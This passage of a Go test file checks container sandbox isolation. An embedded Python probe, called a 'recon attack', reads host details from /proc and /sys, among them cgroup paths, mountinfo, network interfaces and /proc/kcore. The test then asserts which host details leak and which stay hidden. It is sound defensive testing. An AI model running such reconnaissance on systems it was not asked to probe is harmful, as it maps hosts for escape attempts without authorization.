        "MemTotal_kB": int(mem["MemTotal"]),
        "cpus": readfile("/proc/cpuinfo").count("processor\t"),
        "kernel": os.uname().release,
        "mountinfo_docker": "/var/lib/docker/" in readfile("/proc/self/mountinfo"),
        "mountinfo_datadir": [l.split()[3] for l in readfile("/proc/self/mountinfo").splitlines() if event["datadir"] in l],
        "cgroup": readfile("/proc/self/cgroup"),
        "memory_limit": readfile("/sys/fs/cgroup/memory/memory.limit_in_bytes").strip(),
        "block": listdir("/sys/block"),
        "net": listdir("/sys/class/net"),
        "pids": len([p for p in os.listdir("/proc") if p.isdigit()]),
        "kcore": readfile("/proc/kcore")[:16],
        "firmware": listdir("/sys/firmware"),
        "hostname": os.uname().nodename,
    }
`)
	var hostMem int
	if b, err := os.ReadFile("/proc/meminfo"); err == nil {
		fmt.Sscanf(strings.TrimPrefix(strings.SplitN(string(b), "\n", 2)[0], "MemTotal:"), "%d", &hostMem)
	}
	hostKernel, _ := os.ReadFile("/proc/sys/kernel/osrelease")
	dataDir := filepath.Join(env.dir, "data")
	if onKubernetes() {
		dataDir = k8sstack.AgentDir() // where the Pods' hostPath volumes point
	}
	res := r.attack(t, fn, `{"datadir":"`+dataDir+`"}`)
	v := decode(t, res)
	t.Logf("recon from inside a 128 MB sandbox: %s", res.Payload)
	if res.FunctionError != "" {
		t.Fatalf("recon = %s (%s)\n%s", res.Payload, res.FunctionError, res.Log)
	}
	if underGVisor() {
		// gVisor's own /proc shows the sandbox's limit, not the host.
		if got := v["MemTotal_kB"].(float64); int(got) >= hostMem {
			t.Errorf("under gVisor /proc/meminfo shows %v kB, the host's %d kB", got, hostMem)
		}
	} else {
		// Accepted leaks: the host's memory and kernel.
		if got := v["MemTotal_kB"].(float64); int(got) != hostMem {
			t.Errorf("/proc/meminfo inside shows %v kB, want the host's %d kB (runc shows the host's; if this changed, update sandbox/doc.go)", got, hostMem)
		}
		if v["kernel"] != strings.TrimSpace(string(hostKernel)) {
			t.Errorf("kernel inside %v, host %s", v["kernel"], hostKernel)
		}
		if v["memory_limit"] != strconv.Itoa(128<<20) {
			t.Errorf("the sandbox's own memory cgroup says %v, want %d", v["memory_limit"], 128<<20)
		}
		// Not leaked on Docker: the cgroup namespace hides where the
		// container sits. On Kubernetes with cgroup v1 containerd gives a
		// container no cgroup namespace: the path names the Pod's UID and
		// the container's id under kubepods, and nothing else of the node
		// (an accepted leak, sandbox/kubernetes doc.go).
		for _, line := range strings.Split(strings.TrimSpace(fmt.Sprint(v["cgroup"])), "\n") {
			if onKubernetes() {
				if !regexp.MustCompile(`^\d+:[^:]*:/kubepods/burstable/pod[0-9a-f-]{36}/[0-9a-f]{64}$`).MatchString(line) {
					t.Errorf("/proc/self/cgroup shows %q, want only the Pod's own kubepods path", line)
				}
			} else if !strings.HasSuffix(line, ":/") {
				t.Errorf("/proc/self/cgroup shows a host path: %q", line)
			}
		}
	}
	wantNet := "[lo]"
	if onKubernetes() {
		wantNet = "[eth0 lo]" // a Pod's interface on a bridge with no route off it
	}
	if v["pids"].(float64) > 5 || fmt.Sprint(v["net"]) != wantNet || !slices.Contains([]any{"", "EACCES", "ENOENT", "EPERM"}, v["kcore"]) {
		t.Errorf("inside a sandbox: %v processes, interfaces %v, /proc/kcore %q; want only its own few processes, %s, and no kernel memory", v["pids"], v["net"], v["kcore"], wantNet)
	}
	if !underGVisor() {
		// Accepted: the bind mounts' sources name the instance's folder
		// under the data folder (its path, not its contents).
		if mounts, _ := v["mountinfo_datadir"].([]any); len(mounts) == 0 {
			t.Errorf("/proc/self/mountinfo shows %v under the data folder, want the instance's own bind mounts (update sandbox/doc.go if this changed)", v["mountinfo_datadir"])
		}
	}
	r.nextIsClean(t, fn, res)
}
